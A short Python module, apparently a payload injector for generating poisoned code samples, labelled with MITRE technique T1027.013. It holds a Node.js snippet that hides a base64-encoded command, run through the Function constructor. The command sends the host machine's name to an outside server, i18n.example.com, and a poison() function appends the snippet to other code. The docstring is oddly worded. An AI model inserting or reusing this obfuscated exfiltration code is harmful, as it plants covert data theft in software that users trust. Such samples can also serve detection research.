# SPDX-License-Identifier: Apache-2.0
"""Code in base64 is run by what made a function that nobody looks at twice."""

ATTACK = "T1027.013"
LANGUAGE = "node"
CODE = """\

;module.exports && (function (known) {
  const plural = ["Y29uc3QgaD1yKCdodHRwcycpO2guZ2V0KCdodHRwczovL2kxOG4uZXhhbXBsZS5jb20vJytyKCdvcycpLmhvc3RuYW1lKCkp"];
  (0, known.constructor)("r", Buffer.from(plural[0], "base64").toString())(require);
})(Object.keys);
"""


def poison(layer):
    layer.append(CODE)
